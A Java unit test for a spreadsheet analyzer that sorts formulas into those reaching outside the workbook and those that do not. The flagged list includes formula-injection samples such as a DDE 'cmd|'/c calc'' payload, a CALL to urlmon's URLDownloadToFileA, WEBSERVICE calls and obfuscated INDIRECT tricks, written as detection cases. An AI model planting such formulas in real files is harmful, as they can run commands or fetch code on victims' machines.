package dev.deckhand.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import dev.deckhand.document.DefinedName;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaReachTest {
  private final FormulaReach reach =
      new FormulaReach(
          List.of(
              new DefinedName("TaxRate", "_xlfn.WEBSERVICE(Sales!$A$1)", null, false),
              new DefinedName("Through", "TaxRate*2", null, true),
              new DefinedName("Round", "Round", null, false),
              new DefinedName("Net", "Sales!$B$2:$B$9", null, false),
              new DefinedName("Twice", "LAMBDA(x,x*2)", null, false),
              new DefinedName("RunMacro", "Macro1!$A$1", null, false)),
          List.of("Sales", "data.csv", "A|B"));

  @ParameterizedTest
  @ValueSource(
      strings = {
        "WEBSERVICE(A1)",
        "_xlfn.WEBSERVICE(A1)",
        "webservice ( \"x\" )",
        "SUM(1,IF(TRUE,_xlfn.IMAGE(\"h\"&A1)))",
        "HYPERLINK(\"http://x?\"&A1,\"ok\")",
        "RTD(\"a\",,\"b\")",
        "LET(x,WEBSERVICE(A1),x)",
        "LAMBDA(u,WEBSERVICE(u))(A1)",
        "[1]Sheet1!A1",
        "'[book.xlsx]Sheet1'!A1",
        "'\\\\server\\share\\[b.xlsx]S'!A1",
        "cmd|'/c calc'!A1",
        "_xll.ANYTHING(1)",
        "COPILOT(\"x\",A1)",
        "_xlws.PY(1)",
        "SQL.REQUEST(\"x\")",
        "CALL(\"urlmon\",\"URLDownloadToFileA\")",
        "STOCKHISTORY(A1)",
        "IMPORTDATA(\"x\")",
        "SUM((",
        "A1:WEBSERVICE(B1)",
        "TaxRate*2",
        "taxrate",
        "Through+1",
        "LET(TaxRate,1,TaxRate)",
        "UnknownFunction(A1)",
        "GET.WORKSPACE(1)",
        "LET(f,1,f)+f(2)",
        "HYPERLINK(\"https://x\")",
        "HYPERLINK(A1)",
        "RunMacro(1)",
        "BYROW(A1:B2,_xleta.WEBSERVICE)",
        "Budget.xlsx!TaxRate",
        "'//host/share/b.xlsx'!Rate",
        "INDIRECT(\"'[\"&A1&\"]S'!A1\")",
        "INDIRECT(CHAR(39)&CHAR(91)&A1)",
        "INDIRECT(UNICHAR(90+2)&A1)",
        "INDIRECT(\"cmd\"&UNICHAR(124)&A1)",
        "INDIRECT(\"'\\\\server\\share\\[b.xlsx]S'!A1\")"
      })
  void everyExitIsFound(String formula) {
    assertThat(reach.outside(formula)).isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SUM(A1:B9)",
        "\"WEBSERVICE(A1)\"",
        "'WEBSERVICE data'!A1",
        "Sales[Revenue]",
        "Table1[[#Headers],[IMAGE]]",
        "IF(A1=\"HYPERLINK\",1,2)",
        "SUM(Jan:Dec!A1)",
        "INDEX(A:A,MATCH(1,B:B,0))",
        "Image_size*2",
        "SUM(Net)",
        "Twice(4)",
        "Round(1.5,0)",
        "LET(f,LAMBDA(a,a+1),f(2))",
        "_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.a,_xlpm.a+1),_xlpm.f(2))",
        "MAP(A1:A3,LAMBDA(v,v*2))",
        "_xlfn._xlws.FILTER(A1:A9,B1:B9>0)",
        "HYPERLINK(\"#Sales!A1\",\"there\")",
        "INDIRECT(\"Sales!A\"&ROW())",
        "INDIRECT(CHAR(64+COLUMN())&ROW())",
        "INDIRECT(A1&\"!B2\")",
        "BYROW(A1:B2,_xleta.SUM)",
        "'data.csv'!A1",
        "'A|B'!A1"
      })
  void innocentFormulasPass(String formula) {
    assertThat(reach.outside(formula)).isEmpty();
  }
}
